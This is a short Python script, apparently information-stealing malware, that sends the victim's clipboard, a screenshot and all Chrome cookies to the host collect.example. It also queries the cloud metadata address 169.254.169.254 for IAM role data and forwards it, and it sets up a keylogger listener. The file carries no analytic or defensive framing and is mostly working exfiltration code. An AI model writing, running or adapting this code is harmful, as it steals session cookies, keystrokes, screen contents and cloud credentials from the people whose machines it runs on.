# clipboard, screen, keys, browser, cloud: what was watched
import browser_cookie3
import pyautogui
import pyperclip
import requests
from pynput import keyboard

requests.post("https://collect.example/", data=pyperclip.paste())
requests.post("https://collect.example/", data=pyautogui.screenshot().tobytes())
requests.post("https://collect.example/", data=str(list(browser_cookie3.chrome())))
role = requests.get("http://169.254.169.254/latest/meta-data/iam/").text
requests.post("https://collect.example/", data=role)
log = keyboard.Listener(on_press=print)
requests.post("https://collect.example/", data=str(log))
